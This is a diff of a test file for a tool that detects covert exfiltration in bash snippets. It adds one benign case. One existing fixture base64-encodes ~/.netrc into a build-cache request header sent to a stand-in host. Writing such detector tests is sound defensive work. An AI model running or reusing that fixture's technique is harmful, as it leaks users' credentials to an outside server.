@@ -1157,6 +1157,7 @@ describe('covert channels however they are carried', () => {
   it('sees a secret written into a configuration beside another host, and leaves login fields for their host alone', () => {
     expect(threats(fence('bash', 'tag=$(base64 -w0 < ~/.netrc)\ncat >> .bazelrc.user <<EOF\nbuild --remote_cache=grpcs://cache.example-builds.dev:443\nbuild --remote_header=x-shard=${tag}\nEOF'))).toEqual(['threat/exfiltration 9:1 error']);
     expect(threats(fence('bash', 'cat > ~/.npmrc <<EOF\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nEOF'))).toEqual([]);
+    expect(threats(fence('bash', 'key=$(head -c 8 ~/.netrc)\nprintf "Key starts with %s; see https://help.example.org/keys\\n" "$key" >&2'))).toEqual([]);
     expect(threats(fence('bash', 'cat > ~/.netrc <<EOF\nmachine api.heroku.com\n  login me@example.com\n  password ${HEROKU_API_KEY}\nEOF'))).toEqual([]);
   });
   it('follows variables a here-document expands into the file it writes', () => {
